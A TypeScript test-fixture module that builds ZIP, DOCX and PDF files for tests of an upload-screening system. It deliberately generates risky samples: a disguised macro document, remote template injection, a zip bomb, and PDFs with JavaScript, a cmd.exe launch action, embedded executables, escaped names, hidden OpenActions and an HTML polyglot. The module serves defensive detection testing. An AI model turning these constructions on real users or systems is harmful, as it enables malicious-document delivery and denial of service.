import { constants, crc32, deflateRawSync, deflateSync } from 'node:zlib';
import { PDFDocument, StandardFonts } from 'pdf-lib';

/**
 * Real files built in the tests themselves (no binary fixtures): ZIPs and DOCX documents, and the
 * risky kinds a trust's information governance would refuse, for the unit and end-to-end suites.
 */

export interface ZipEntry {
  name: string;
  data: string | Buffer;
  /** Stored (0) or deflated (8, the default). */
  method?: 0 | 8;
  /** Deflated bytes given ready-made (e.g. a bomb), with the size they claim to inflate to. */
  deflated?: { bytes: Buffer; size: number };
}

/**
 * A ZIP as the zip tools write it: local headers, data, central directory and end record.
 * With `dataDescriptor`, sizes and CRC follow the data instead of being in the local header, as
 * streaming writers (Java's ZipOutputStream, many web libraries) do.
 */
export function zip(entries: ZipEntry[], { dataDescriptor = false } = {}): Buffer {
  const parts: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  for (const entry of entries) {
    const name = Buffer.from(entry.name, 'utf8');
    const raw = Buffer.isBuffer(entry.data) ? entry.data : Buffer.from(entry.data, 'utf8');
    const method = entry.deflated ? 8 : (entry.method ?? 8);
    const data = entry.deflated?.bytes ?? (method === 8 ? deflateRawSync(raw) : raw);
    const size = entry.deflated?.size ?? raw.length;
    const crc = entry.deflated ? 0 : crc32(raw);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(0x0800 | (dataDescriptor ? 0x0008 : 0), 6); // UTF-8 names; sizes after the data
    local.writeUInt16LE(method, 8);
    local.writeUInt32LE(dataDescriptor ? 0 : crc, 14);
    local.writeUInt32LE(dataDescriptor ? 0 : data.length, 18);
    local.writeUInt32LE(dataDescriptor ? 0 : size, 22);
    local.writeUInt16LE(name.length, 26);
    const descriptor = Buffer.alloc(dataDescriptor ? 16 : 0);
    if (dataDescriptor) {
      descriptor.writeUInt32LE(0x08074b50, 0);
      descriptor.writeUInt32LE(crc, 4);
      descriptor.writeUInt32LE(data.length, 8);
      descriptor.writeUInt32LE(size, 12);
    }
    parts.push(local, name, data, descriptor);
    const header = Buffer.alloc(46);
    header.writeUInt32LE(0x02014b50, 0);
    header.writeUInt16LE(20, 4);
    header.writeUInt16LE(20, 6);
    local.copy(header, 8, 6, 16); // flags, method, time, date
    header.writeUInt32LE(crc, 16);
    header.writeUInt32LE(data.length, 20);
    header.writeUInt32LE(size, 24);
    header.writeUInt16LE(name.length, 28);
    header.writeUInt32LE(offset, 42);
    central.push(header, name);
    offset += local.length + name.length + data.length + descriptor.length;
  }
  const directory = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...parts, directory, end]);
}

const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const MAIN = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
const MACRO_MAIN = 'application/vnd.ms-word.document.macroEnabled.main+xml';

const contentTypes = (main = MAIN, extra = '') =>
  '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' +
  '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
  '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
  `<Default Extension="xml" ContentType="application/xml"/>${extra}` +
  `<Override PartName="/word/document.xml" ContentType="${main}"/></Types>`;
/** A relationships part holding the given `<Relationship .../>` elements. */
export const relationships = (...elements: string[]) =>
  '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' +
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${elements.join('')}</Relationships>`;
const documentXml = (text = 'Zoë kept a resident safe.') =>
  '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' +
  '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">' +
  `<w:body><w:p><w:r><w:t>${text}</w:t></w:r></w:p></w:body></w:document>`;

export interface DocxOptions {
  /** The main part's content type (a macro-enabled one for a .docm renamed .docx). */
  mainContentType?: string;
  extraContentTypes?: string;
  /** Extra `<Relationship>` elements of word/document.xml. */
  documentRelationships?: string[];
  /** `<Relationship>` elements of word/settings.xml (where an attached template is). */
  settingsRelationships?: string[];
  /** Entries added after the document. */
  extraEntries?: ZipEntry[];
  /** Replaces word/document.xml. */
  document?: ZipEntry;
}

/** A small DOCX in Word's own part layout. */
export function docx(options: DocxOptions = {}): Buffer {
  return zip([
    { name: '[Content_Types].xml', data: contentTypes(options.mainContentType, options.extraContentTypes) },
    {
      name: '_rels/.rels',
      data: relationships(`<Relationship Id="rId1" Type="${REL}/officeDocument" Target="word/document.xml"/>`),
    },
    options.document ?? { name: 'word/document.xml', data: documentXml() },
    {
      name: 'word/_rels/document.xml.rels',
      data: relationships(
        `<Relationship Id="rId1" Type="${REL}/settings" Target="settings.xml"/>`,
        ...(options.documentRelationships ?? []),
      ),
    },
    {
      name: 'word/settings.xml',
      data:
        '<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" ' +
        `xmlns:r="${REL}">${options.settingsRelationships ? '<w:attachedTemplate r:id="rId1"/>' : ''}</w:settings>`,
    },
    ...(options.settingsRelationships
      ? [{ name: 'word/_rels/settings.xml.rels', data: relationships(...options.settingsRelationships) }]
      : []),
    ...(options.extraEntries ?? []),
  ]);
}

/**
 * Raw deflate data that inflates to `mebibytes` MiB of zeros: one fully flushed block for 1 MiB
 * (about 1 KB), repeated, then an empty final block. Built in a moment, never inflated here.
 */
export function zerosDeflated(mebibytes: number): Buffer {
  const block = deflateRawSync(Buffer.alloc(1024 * 1024), { finishFlush: constants.Z_FULL_FLUSH, level: 9 });
  return Buffer.concat([...Array.from({ length: mebibytes }, () => block), Buffer.from([0x03, 0x00])]);
}

/** The risky DOCX files, each with what it is. */
export const riskyDocx = {
  /** A VBA project inside, and the macro-enabled main content type: a .docm renamed .docx. */
  macros: () =>
    docx({
      mainContentType: MACRO_MAIN,
      extraContentTypes: '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
      documentRelationships: [
        '<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>',
      ],
      extraEntries: [{ name: 'word/vbaProject.bin', data: Buffer.from('\xd0\xcf\x11\xe0 VBA project', 'latin1') }],
    }),
  /** Only the macro-enabled content type says so (the VBA part left out). */
  macroEnabledContentType: () => docx({ mainContentType: MACRO_MAIN }),
  /** settings.xml.rels pointing attachedTemplate at a remote template, as template-injection attacks do. */
  externalTemplate: (targetMode = 'External') =>
    docx({
      settingsRelationships: [
        `<Relationship Id="rId1" Type="${REL}/attachedTemplate" Target="https://templates.example.net/letter.dotm" TargetMode="${targetMode}"/>`,
      ],
    }),
  /** `mebibytes` MiB of document.xml packed into about a KB each. */
  bomb: (mebibytes: number) =>
    docx({ document: { name: 'word/document.xml', data: '', deflated: { bytes: zerosDeflated(mebibytes), size: 0 } } }),
};

/** A minimal PDF whose catalog carries `catalog` and which holds the extra objects given (numbered from 3). */
export function pdf(catalog = '', objects: string[] = [], header = '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n'): Buffer {
  const body = [
    `1 0 obj << /Type /Catalog /Pages 2 0 R ${catalog}>> endobj`,
    '2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj',
    ...objects.map((object, i) => `${i + 3} 0 obj ${object} endobj`),
  ].join('\n');
  return Buffer.from(`${header}${body}\ntrailer << /Root 1 0 R >>\n%%EOF\n`, 'latin1');
}

/** A stream object with the given dictionary entries and bytes, its /Length right. */
export function pdfStream(dictionary: string, data: Buffer): string {
  return `<< ${dictionary} /Length ${data.length} >>\nstream\n${data.toString('latin1')}\nendstream`;
}

/** The risky PDFs, each with what it is. */
export const riskyPdf = {
  javaScriptNameTree: () => pdf('/Names << /JavaScript 3 0 R >>', ['<< /Names [(a) 4 0 R] >>', '<< /S /Foo >>']),
  javaScriptAction: () => pdf('', ['<< /Type /Annot /A << /JS (app.alert\\(1\\)) >> >>']),
  openAction: () => pdf('/OpenAction 3 0 R', ['<< /S /URI /URI (https://tracker.example.net/) >>']),
  additionalActions: () => pdf('', ['<< /Type /Page /AA << /O 4 0 R >> >>', '<< /S /GoTo /D [3 0 R /Fit] >>']),
  launch: () => pdf('', ['<< /Type /Annot /A << /S /Launch /F (cmd.exe) >> >>']),
  embeddedFile: () => pdf('', [pdfStream('/Type /EmbeddedFile', Buffer.from('MZ an attached program'))]),
  /** `/J#61vaScript` is /JavaScript to a reader. */
  escapedName: () => pdf('/Names << /J#61vaScript 3 0 R >>', ['<< /Names [] >>']),
  /** The /OpenAction packed into a compressed object stream, out of sight of a plain byte scan. */
  inObjectStream: () => {
    const data = deflateSync(Buffer.from('3 0 << /OpenAction 4 0 R >>')); // FlateDecode is zlib-wrapped
    return pdf('', [pdfStream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', data)]);
  },
  /** A PDF that a browser also renders as a page running a script. */
  htmlPolyglot: () =>
    pdf('', ['<< /Type /Foo >>'], '%PDF-1.4\n%<html><body><script>alert(document.domain)</script></body></html>\n'),
};

/**
 * A PDF as a well-known generator (pdf-lib) writes it, one page per entry, its lines drawn top down in Helvetica;
 * an empty page is blank.
 */
export async function textPdf(pages: (string | string[])[]): Promise<Buffer> {
  const doc = await PDFDocument.create();
  const font = await doc.embedFont(StandardFonts.Helvetica);
  for (const content of pages) {
    const page = doc.addPage();
    const lines = typeof content === 'string' ? [content].filter(Boolean) : content;
    lines.forEach((line, i) => page.drawText(line, { x: 40, y: 760 - i * 22, size: 10, font }));
  }
  return Buffer.from(await doc.save());
}
